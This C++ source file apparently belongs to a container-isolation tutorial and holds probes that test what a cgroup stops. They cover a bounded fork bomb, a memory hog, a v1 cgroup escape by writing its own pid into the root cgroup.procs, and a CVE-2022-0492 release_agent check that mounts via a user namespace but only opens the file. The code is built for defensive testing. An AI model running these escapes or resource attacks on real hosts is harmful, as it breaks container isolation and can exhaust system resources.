// attacks_cgroup.cpp: what chapter 08's cgroup (and its namespace) stops.
//   fork-bomb N       fork until N processes run at once (a bound of its own:
//                     a real bomb never stops; N more than the limit proves it)
//   memory-hog SIZE   a child allocates and touches SIZE of memory
//   cgroup-escape     mount the pids hierarchy (cgroup v1) and write one's own
//                     pid into the cgroup.procs of its root: out of one's cgroup
//   release-agent     CVE-2022-0492: mount a v1 hierarchy (if need be in a user
//                     and cgroup namespace of one's own, as `unshare -UrmC`
//                     does) and open its release_agent for writing. NEVER
//                     written: the kernel would run that program as the host's
//                     root. Opened and closed at once.
// The mounts go on /mnt and are undone at once (or vanish with the child
// that made them in a namespace of its own). cgroup2 is never mounted: a
// cgroup2 mount in the host's cgroup namespace would re-apply its options
// to the host's whole hierarchy. On a host without v1 hierarchies the last
// two say result=unsupported.
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>

#include "probe.hpp"

namespace probe {

namespace {

constexpr const char* kPoint = "/mnt";

int unsupported(const std::string& attack, const std::string& detail) {
    std::printf("attack=%s result=unsupported %s\n", attack.c_str(), detail.c_str());
    return 0;
}

// The path of this process's cgroup in the v1 hierarchy holding `controller`
// ("/a/b"), from /proc/self/cgroup; "" if there is no such hierarchy.
std::string cgroup_of(const std::string& controller) {
    std::ifstream file("/proc/self/cgroup");
    for (std::string line; std::getline(file, line);) {
        size_t first = line.find(':'), second = line.find(':', first + 1);
        if (first == std::string::npos || second == std::string::npos) continue;
        std::string list = "," + line.substr(first + 1, second - first - 1) + ",";
        if (list.find("," + controller + ",") != std::string::npos) return line.substr(second + 1);
    }
    return "";
}

// A v1 hierarchy's controller to mount: pids where the host has it.
std::string v1_controller() {
    for (const char* c : {"pids", "memory", "cpu"})
        if (!cgroup_of(c).empty()) return c;
    return "";
}

// Mounts the v1 hierarchy of `controller` on kPoint: as it is, or, where
// that is refused, as CVE-2022-0492's `unshare -UrmC` does, in a user
// namespace (mapping this uid to 0), mount and cgroup namespace of its own.
// Only ever called in a child. Returns the errno of the last mount.
int mount_v1(const std::string& controller, std::string& how) {
    how = "mount";
    if (mount("cgroup", kPoint, "cgroup", MS_NOSUID | MS_NODEV | MS_NOEXEC, controller.c_str()) ==
        0)
        return 0;
    if (errno != EPERM) return errno;
    how = "unshare-UrmC";
    uid_t uid = geteuid();
    gid_t gid = getegid();
    if (unshare(CLONE_NEWUSER) != 0) return errno;
    {
        std::ofstream("/proc/self/setgroups") << "deny";
        std::ofstream("/proc/self/uid_map") << "0 " << uid << " 1";
        std::ofstream("/proc/self/gid_map") << "0 " << gid << " 1";
    }
    if (unshare(CLONE_NEWNS | CLONE_NEWCGROUP) != 0) return errno;
    mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr);
    if (mount("cgroup", kPoint, "cgroup", MS_NOSUID | MS_NODEV | MS_NOEXEC, controller.c_str()) ==
        0)
        return 0;
    return errno;
}

std::string escape(const Args&) {
    std::string controller = v1_controller(), how;
    int err = mount_v1(controller, how);
    if (err != 0) return "blocked " + how + "=" + errno_name(err);
    // Read after the mount: `unshare -UrmC` changes how the path reads.
    std::string before = cgroup_of(controller);
    std::string procs = std::string(kPoint) + "/cgroup.procs";
    int fd = open(procs.c_str(), O_WRONLY | O_CLOEXEC);
    std::string pid = std::to_string(getpid());
    int written = fd < 0 ? errno : write(fd, pid.data(), pid.size()) < 0 ? errno : 0;
    if (fd >= 0) close(fd);
    std::string after = cgroup_of(controller);
    umount2(kPoint, MNT_DETACH);
    std::string detail = how + " write=" + errno_name(written) + " from=" + before + " to=" + after;
    return (written == 0 && after != before ? "success " : "blocked ") + detail;
}

std::string release_agent_open(const Args&) {
    std::string controller = v1_controller(), how;
    int err = mount_v1(controller, how);
    if (err != 0) return "blocked " + how + "=" + errno_name(err);
    std::string path = std::string(kPoint) + "/release_agent";
    int fd = open(path.c_str(), O_WRONLY | O_CLOEXEC);  // NEVER written: closed at once
    int opened = fd < 0 ? errno : 0;
    if (fd >= 0) close(fd);
    umount2(kPoint, MNT_DETACH);
    return (opened == 0 ? "success " : "blocked ") + how + "=OK open=" + errno_name(opened);
}

}  // namespace

int fork_bomb(const Args& args) {
    int bound = std::atoi(arg(args, 0).c_str());
    Forked forked = fork_until(bound);
    release(forked);
    return report("fork-bomb", forked.count == bound,
                  "forked=" + std::to_string(forked.count) +
                      (forked.error ? " fork=" + errno_name(forked.error) : ""));
}

int memory_hog(const Args& args) {
    std::string size = arg(args, 0);
    std::fflush(stdout);
    pid_t child = fork();
    if (child < 0) return report("memory-hog", false, "fork=" + errno_name(errno));
    if (child == 0) _exit(touch(parse_size(size)) ? 0 : 1);
    int status = 0;
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status))
        return report("memory-hog", false, std::string("killed=") + sigabbrev_np(WTERMSIG(status)));
    return report("memory-hog", WEXITSTATUS(status) == 0,
                  WEXITSTATUS(status) == 0 ? "touched=" + size : "mmap=failed");
}

int cgroup_escape(const Args& args) {
    ProcView proc;  // 01 mounts no /proc: /proc/self/cgroup says where we are
    if (v1_controller().empty())
        return unsupported("cgroup-escape", "no-v1-hierarchy (the probe never mounts cgroup2)");
    return report("cgroup-escape", in_child(escape, args));
}

int release_agent(const Args& args) {
    ProcView proc;
    if (v1_controller().empty())
        return unsupported("release-agent", "no-v1-hierarchy (release_agent is cgroup v1's)");
    return report("release-agent", in_child(release_agent_open, args));
}

}  // namespace probe
